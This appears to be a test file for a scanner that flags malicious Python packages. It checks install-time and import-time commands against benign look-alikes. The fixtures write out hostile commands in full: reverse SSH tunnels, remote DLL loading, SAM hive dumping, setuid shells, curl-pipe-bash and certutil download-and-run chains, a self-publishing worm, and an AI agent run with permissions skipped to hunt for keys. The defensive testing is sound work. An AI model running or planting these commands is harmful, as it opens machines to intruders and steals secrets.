import { expect, test } from 'vitest';
import { inspect, python, sdist, wheel } from '../../support/inspect.ts';

/** What is said of a command line that setup.py starts. */
async function atInstall(line: string): Promise<unknown[]> {
  const code = python(
    'import os',
    'from setuptools import setup',
    `os.system(${JSON.stringify(line)})`,
    "setup(name='example')",
  );
  const findings = await inspect('shell-payload', sdist({ 'setup.py': code }));
  return findings.map((one) => [one.class, one.message]);
}

/** What is said of a command line that a function starts when it is called. */
async function onCall(line: string): Promise<unknown[]> {
  const code = python('import os', 'def run():', `    os.system(${JSON.stringify(line)})`);
  return [...(await inspect('shell-payload', wheel({ 'pkg/tool.py': code })))];
}

test.each([
  ['ssh -fN -o StrictHostKeyChecking=no -R 2222:localhost:22 a@203.0.113.7', 'a way into the machine from outside'],
  ['tmate -F new-session &', 'a way into the machine from outside'],
  ['rundll32 \\\\203.0.113.7\\share\\a.dll,Start', 'a program that lies on another machine'],
  ['docker run -d --privileged -v /:/host example/tool', 'a container that holds the whole machine'],
  ['cp /bin/bash /tmp/.b; chmod u+s /tmp/.b', 'rights on the machine'],
  ['sc create Helper binPath= C:\\tools\\h.exe start= auto', 'starts again by itself'],
  ['netsh advfirewall firewall add rule name=h dir=in action=allow protocol=TCP localport=1080', 'Opens the firewall'],
  ['rundll32 IconCache.db,DllInit 1', 'a library under the name of something else'],
  ['regsvr32 /s notes.txt', 'a library under the name of something else'],
  ['reg save HKLM\\SAM C:\\Temp\\s.hiv', "a person's passwords"],
  ['claude --dangerously-skip-permissions -p "look for keys"', 'an assistant that is allowed everything'],
  ['pip config set global.index-url http://203.0.113.7/simple', 'later'],
  ['git config --global url.https://mirror.invalid/.insteadOf https://github.com/', 'later'],
  ['pip freeze | xargs pip uninstall -y', 'Removes the projects'],
])('an install that runs %s is malware', async (line, words) => {
  expect(await atInstall(line)).toEqual([['malware', expect.stringContaining(words)]]);
});

test('a file that one part of a line fetches and a later one starts is a download that is started', async () => {
  for (const line of [
    'curl -s -o %TEMP%\\svc.exe https://files.tools.invalid/svc.exe & start %TEMP%\\svc.exe',
    'wget -q https://files.tools.invalid/agent -O /tmp/agent; nohup /tmp/agent &',
    'cmd /c certutil -f https://files.tools.invalid/a.exe a.exe && a.exe',
  ])
    expect(await atInstall(line)).toEqual([['malware', 'Starts a download that is started.']]);
});

test('a clone of which a script is started is suspicious, a clone that a build compiles is not told', async () => {
  expect(await atInstall('git clone -q https://github.com/example/tool tool && python3 tool/main.py')).toEqual([
    ['suspicious', 'Starts what it cloned before.'],
  ]);
  // no build keeps what it needs in a folder that is hidden among temporary files
  expect(await atInstall('git clone -q https://github.com/example/tool /tmp/.t && python3 /tmp/.t/main.py')).toEqual([
    ['malware', 'Starts what it cloned out of sight before.'],
  ]);
  expect(await atInstall('git clone https://github.com/example/lib && cd lib && cmake . && make')).toEqual([]);
});

test('what people do with such tools on purpose is silent: on call, and in neighbouring words', async () => {
  for (const line of [
    'ssh -R 2222:localhost:22 host.invalid',
    'docker run --privileged -v /:/host image',
    'sc create Helper binPath= C:\\tools\\h.exe',
    'claude --dangerously-skip-permissions -p "fix the tests"',
    'twine upload dist/*',
  ])
    expect(await onCall(line)).toEqual([]);
  for (const line of [
    'ssh-keygen -R host',
    'docker run --rm -v /work:/work image make',
    'chmod 755 scripts/tool',
    'git config --get remote.origin.url',
    'pip uninstall -y old-name',
    'dir C:\\tools\\a.exe',
    'rundll32 shell32.dll,Control_RunDLL',
  ])
    expect(await atInstall(line)).toEqual([]);
});

test('a publication is malware at import, and in setup.py the shortcut of its author', async () => {
  const worm = wheel({
    'pkg/__init__.py': python('import subprocess', "subprocess.run(['twine', 'upload', 'dist/*'])"),
  });

  expect(await inspect('shell-payload', worm)).toMatchObject([{ class: 'malware', context: 'import', line: 2 }]);
  expect(await atInstall('twine upload dist/*')).toEqual([]);
  expect(
    await inspect(
      'shell-payload',
      sdist({
        'pkg/__init__.py': '',
        'release.py': python('import os', "os.system('flit publish')"),
        'setup.py': python(
          'from setuptools import setup',
          "setup(name='example', packages=['pkg'], py_modules=['release'])",
        ),
      }),
    ),
  ).toEqual([]);
});

test('evasion: the words in a list, from pieces, and the program by its path', async () => {
  const code = python(
    'import subprocess',
    "flag = '--dangerously-' + 'skip-permissions'",
    "subprocess.run(['/usr/local/bin/claude', flag, '-p', 'look for keys'])",
  );

  expect(await inspect('shell-payload', wheel({ 'pkg/__init__.py': code }))).toMatchObject([
    { class: 'malware', context: 'import', line: 3 },
  ]);
});

test('evasion: a file that one command fetches and another call starts is dropped', async () => {
  const code = python(
    'import os, subprocess',
    "subprocess.run(['curl', '-s', '-o', '/tmp/.helper', 'https://files.tools.invalid/helper'])",
    "os.system('chmod +x /tmp/.helper')",
    "subprocess.Popen(['/tmp/.helper'])",
  );

  expect(await inspect('dropper', wheel({ 'pkg/__init__.py': code }))).toMatchObject([
    { class: 'malware', score: 10, context: 'import' },
  ]);
});

test('look-alike: an archive of sources that a build fetches with curl and unpacks is no dropped program', async () => {
  const code = python(
    'import subprocess',
    'from setuptools import setup',
    "subprocess.check_call(['curl', '-L', '-o', 'zlib.tar.gz', 'https://github.com/madler/zlib/archive/v1.tar.gz'])",
    "subprocess.check_call(['tar', 'xf', 'zlib.tar.gz'])",
    "setup(name='example')",
  );

  const findings = await inspect('dropper', sdist({ 'setup.py': code }));

  expect(findings.every(({ score, class: kind }) => score < 5 && kind === 'suspicious')).toBe(true);
});

test('a command of setuptools starts programs by a method that it inherits', async () => {
  const code = (words: string): string =>
    python(
      'from setuptools import setup',
      'from setuptools.command.install import install',
      'class Install(install):',
      '    def run(self):',
      `        self.spawn(${words})`,
      '        install.run(self)',
      "setup(name='example', cmdclass={'install': Install})",
    );
  const bad = sdist({ 'setup.py': code("['bash', '-c', 'curl -s https://get.tools.invalid/i | bash']") });

  expect(await inspect('shell-payload', bad)).toMatchObject([{ class: 'malware', context: 'install', line: 5 }]);
  expect(await inspect('shell-payload', sdist({ 'setup.py': code("['make', '-C', 'src']") }))).toEqual([]);
});
